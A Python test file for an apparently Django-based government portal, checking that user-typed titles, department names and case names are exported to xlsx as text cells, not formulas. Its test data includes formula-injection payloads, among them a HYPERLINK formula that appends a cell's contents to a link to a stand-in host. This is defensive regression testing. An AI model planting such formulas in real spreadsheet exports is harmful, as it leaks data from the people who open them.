"""Spreadsheet exports through their download doors (issue 10, finding 5): text a person typed
that starts with = + - @ reaches the official's spreadsheet as a text cell, never as a formula —
in the review audit, the letters statistics and the case time-limit monitor."""

import datetime
from io import BytesIO, StringIO

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from portal.models import Department

from .builders import login_staff
from .cases.builders import case_record, jsonl
from .letters_support import build_world, write_letter
from .review_builders import CsrfClient, build_review_site, create_article
from .test_accounts import casemgr

pytestmark = pytest.mark.django_db

TYPED = ['=HYPERLINK("http://example.com/?"&B3,"点击查看")', "+1+1", "-2+3", "@SUM(A1:A2)"]


def sheet_cells(response, column):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(BytesIO(content)).active
    return {cell.value: cell for cell in next(sheet.iter_cols(min_col=column, max_col=column, min_row=2))}


def assert_text_cells(cells, values):
    for value in values:
        cell = cells[value]
        assert (cell.data_type, cell.quotePrefix) == ("s", True), value


def test_article_titles_in_the_review_audit_export_are_text():
    site = build_review_site()
    client = CsrfClient()
    login_staff(client, site.users["editor"])
    for number, title in enumerate(TYPED):
        response, _article = create_article(client, site.portal.news, title=title, slug=f"formula-{number}")
        assert response.status_code == 302
    login_staff(client, site.users["chief"])
    response = client.get("/admin/reports/review-audit/", {"export": "xlsx"})
    assert response.status_code == 200
    assert_text_cells(sheet_cells(response, column=2), TYPED)


def test_department_names_in_the_letters_statistics_export_are_text():
    """The statistics carry no letter titles: the text typed by a person there is the department's
    name, as the administrator entered it."""
    world = build_world()
    names = []
    for number, text in enumerate(TYPED):
        department = Department.objects.create(name=text, code=f"f{number}", sort_order=10 + number)
        letter, *_ = write_letter(Client(), world.county, title=f"{text}（来信标题）")
        official = login_staff(Client(), world.official)
        official.post(f"/admin/letters/{letter.pk}/accept/", {})
        official.post(f"/admin/letters/{letter.pk}/route/", {"departments": [department.pk]})
        names.append(text)
    today = timezone.localdate()
    response = login_staff(Client(), world.official).get(
        "/admin/letters/export/", {"period": "month", "year": today.year, "number": today.month}
    )
    assert response.status_code == 200
    assert_text_cells(sheet_cells(response, column=2), names)


def test_case_names_in_the_time_limit_export_are_text(tmp_path):
    today = timezone.localdate()
    records = [
        case_record(
            f"青山检刑受〔{today.year}〕{200 + number}号",
            name=name,
            accepted_on=(today - datetime.timedelta(days=40)).isoformat(),
            time_limit_on=(today - datetime.timedelta(days=1)).isoformat(),
        )
        for number, name in enumerate(TYPED)
    ]
    path = tmp_path / "batch.jsonl"
    path.write_text(jsonl(*records), encoding="utf-8")
    call_command("import_cases", str(path), stdout=StringIO())
    response = login_staff(Client(), casemgr()).get(reverse("cases_time_limits:export"))
    assert response.status_code == 200
    assert_text_cells(sheet_cells(response, column=2), TYPED)
